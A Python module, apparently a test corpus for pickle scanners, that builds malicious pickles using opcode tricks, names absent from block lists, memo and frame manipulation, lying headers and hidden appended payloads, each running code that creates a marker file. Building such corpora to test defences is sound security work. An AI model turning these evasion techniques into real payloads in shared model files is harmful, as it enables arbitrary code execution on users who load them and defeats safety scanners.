"""Pickles that would run code where they are unpickled without care, each with a mark to leave.

The tricks are those that have been published against scanners and restricted unpicklers: names
that a list of forbidden ones lacks, names given through the stack or by number, dots in names,
opcodes that scanners do not know, headers that lie, and payloads that stand where nobody looks.
Each payload makes the file ``MARK`` in the working directory.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from typing import Any

MARK = "mark"
CODE = f"open({MARK!r}, 'w')"
SHELL = f"touch {MARK}"
PROTO = b"\x80\x02"
PROTO4 = b"\x80\x04"
DUMP = {"version": "2.10", "entries": [], "pg_config": {}, "pg_status": {}}
WHOLE = pickle.dumps(DUMP, 2)


def text(value: str) -> bytes:
    """The opcode of a text."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(dotted: str) -> bytes:
    """The opcode that imports a name of a module."""
    module, _, last = dotted.rpartition(".")
    return f"c{module}\n{last}\n".encode()


def stack_name(module: str, last: str) -> bytes:
    """The same, with the names taken from the stack."""
    return text(module) + text(last) + b"\x93"


def call(function: bytes, *arguments: bytes | str) -> bytes:
    """The opcodes of a call; arguments are texts, or opcodes that push them."""
    pushed = (text(one) if isinstance(one, str) else one for one in arguments)
    return function + b"(" + b"".join(pushed) + b"tR"


def opcodes(*parts: bytes) -> bytes:
    """A pickle of protocol 2."""
    return PROTO + b"".join(parts) + b"."


def frame(length: int) -> bytes:
    """The opcode that begins a frame."""
    return b"\x95" + struct.pack("<Q", length)


EXEC = call(name("builtins.exec"), CODE)
OS = call(name("importlib.import_module"), "os")
MAPPED = b"".join((name("builtins.map"), name("builtins.exec"), b"](", text(CODE), b"e", b"\x86"))
"""A class, and with what it is made: then it calls whoever steps through it."""


class _Reduces:
    """An object as picklers write it: a class that says how it is made again."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (CODE,)


class _GivesItems:
    """As above; what is put into it calls."""

    def __reduce__(self) -> tuple[Any, ...]:
        return dict, (), None, None, iter([("a", _Reduces())])


def _zipped() -> bytes:
    """As ``torch.save`` packs a pickle."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", opcodes(EXEC))
    return out.getvalue()


OPCODES: dict[str, bytes] = {
    "GLOBAL": opcodes(name("antigravity.fly")),
    "REDUCE": opcodes(EXEC),
    "STACK_GLOBAL": PROTO4 + call(stack_name("builtins", "exec"), CODE) + b".",
    "INST": opcodes(b"(", text(CODE), b"ibuiltins\nexec\n"),
    "OBJ": opcodes(b"(", name("builtins.exec"), text(CODE), b"o"),
    "NEWOBJ": opcodes(name("builtins.bytes"), MAPPED, b"\x81", b"\x85\x81"),
    "NEWOBJ_EX": opcodes(name("builtins.bytes"), MAPPED, b"}\x92", b"\x85}\x92"),
    "BUILD": opcodes(
        call(name("functools.partial"), name("builtins.print")),
        *(b"(", name("builtins.exec"), text(CODE), b"\x85}Ntb"),
        b")R",
    ),
    "EXT1": opcodes(b"\x82\xf1", text(CODE), b"\x85R"),
    "EXT2": opcodes(b"\x83\xf1\x00", text(CODE), b"\x85R"),
    "EXT4": opcodes(b"\x84\xf1\x00\x00\x00", text(CODE), b"\x85R"),
    "PERSID": opcodes(f"P{CODE}\n".encode()),
    "BINPERSID": opcodes(text(CODE), b"Q"),
    "NEXT_BUFFER": b"\x80\x05\x97.",
}
"""A pickle for each opcode that imports, calls, builds, or asks for what is outside the file."""

NAMES: dict[str, bytes] = {
    "a class with __reduce__": pickle.dumps({**DUMP, "more": _Reduces()}, 2),
    "a class with __reduce__, protocol 5": pickle.dumps({**DUMP, "more": _Reduces()}, 5),
    "items that call": pickle.dumps({**DUMP, "more": _GivesItems()}, 2),
    "dots in a name": PROTO4 + call(stack_name("shutil", "os.path.os.system"), SHELL) + b".",
    "a chain of getattr": opcodes(call(call(name("builtins.getattr"), OS, "system"), SHELL)),
    "attrgetter": opcodes(call(call(call(name("operator.attrgetter"), "system"), OS), SHELL)),
    "methodcaller": opcodes(call(call(name("operator.methodcaller"), "system", SHELL), OS)),
    "names of Python 2": opcodes(call(name("__builtin__.eval"), CODE)),
    "posix.system": opcodes(call(name("posix.system"), SHELL)),
    "subprocess.getoutput": opcodes(call(name("subprocess.getoutput"), SHELL)),
    "pydoc.pipepager": opcodes(call(name("pydoc.pipepager"), "", SHELL)),
    "runpy._run_code": opcodes(call(name("runpy._run_code"), CODE, b"}")),
    "timeit.timeit": opcodes(call(name("timeit.timeit"), "pass", CODE)),
    "cProfile.run": opcodes(call(name("cProfile.run"), CODE)),
    "code.InteractiveInterpreter": opcodes(
        call(
            call(name("builtins.getattr"), call(name("code.InteractiveInterpreter")), "runcode"),
            CODE,
        )
    ),
    "trace.Trace": opcodes(
        call(call(name("builtins.getattr"), call(name("trace.Trace")), "run"), CODE)
    ),
    "map in a list": opcodes(
        call(
            name("builtins.list"),
            call(name("builtins.map"), name("builtins.exec"), b"](" + text(CODE) + b"e"),
        )
    ),
    "a partial call": opcodes(call(call(name("functools.partial"), name("builtins.exec"), CODE))),
    "a pickle in a pickle": opcodes(
        call(
            name("pickle.loads"),
            call(name("builtins.bytes"), opcodes(EXEC).decode("latin-1"), "latin-1"),
        )
    ),
    "numpy.testing": opcodes(call(name("numpy.testing._private.utils.runstring"), CODE, b"}")),
    "numpy.f2py": opcodes(call(name("numpy.f2py.crackfortran.myeval"), CODE)),
    "torch.utils": opcodes(call(name("torch.utils.collect_env.run"), SHELL)),
    "torch.jit": opcodes(
        call(name("torch.jit.unsupported_tensor_ops.execWrapper"), CODE, b"}", b"}")
    ),
}
"""Pickles whose names lists of forbidden ones lack, or lists of allowed ones let pass."""

PLACES: dict[str, bytes] = {
    "names by number": opcodes(
        *(text("builtins"), b"q\x000", text("exec"), b"q\x010"),
        *(b"\x80\x04", call(b"h\x00h\x01\x93", CODE)),
    ),
    "a number given twice": opcodes(
        *(text("harmless"), b"q\x000", name("builtins.exec"), b"q\x000"), call(b"h\x00", CODE)
    ),
    "put away": opcodes(EXEC, b"0")[:-1] + WHOLE[2:],
    "under a mark that is put away": opcodes(b"(", EXEC, b"1")[:-1] + WHOLE[2:],
    "as a key": opcodes(b"}", EXEC, b"Ns"),
    "in an entry": opcodes(b"}", text("entries"), b"](}", text("frames"), EXEC, b"ses"),
    "after a dump, in its place": WHOLE[:-1] + b"0" + EXEC + b".",
    "says protocol 0": b"\x80\x00" + EXEC + b".",
    "says protocol 1": b"\x80\x01" + EXEC + b".",
    "no header": EXEC + b".",
    "header twice": b"\x80\x05" + opcodes(EXEC),
    "a frame that ends early": PROTO4 + frame(len(EXEC)) + EXEC + b"0N.",
    "a frame of nothing": PROTO4 + frame(0) + EXEC + b".",
    "a frame after a frame": PROTO4 + frame(0) + frame(len(EXEC) + 1) + EXEC + b".",
    "damaged after the call": PROTO + EXEC + b"\xff\xff",
    "cut after the call": PROTO + EXEC,
    "after the end of a dump": WHOLE + opcodes(EXEC),
    "after the end of nothing": opcodes(b"}") + opcodes(EXEC),
    "in a zip as torch.save writes": _zipped(),
    "after a byte order mark and spaces": b"\xef\xbb\xbf \n" + opcodes(EXEC),
}
"""Pickles that call where a scanner does not look."""

TRICKS = {**OPCODES, **NAMES, **PLACES}

ARE_DUMPS = frozenset({"after the end of a dump"})
"""What follows the end of a pickle is no part of it: the dump in front is read."""

LEAVE_NO_MARK = frozenset(
    {
        # It imports, which is no mark; nothing is registered; nothing outside is handed in.
        *("GLOBAL", "EXT1", "EXT2", "EXT4", "PERSID", "BINPERSID", "NEXT_BUFFER"),
        # For those who read on, look inside, or skip what is in front.
        *("after the end of a dump", "after the end of nothing", "in a zip as torch.save writes"),
        "after a byte order mark and spaces",
    }
)
"""Those that do not bite where ``pickle.load`` reads the file."""
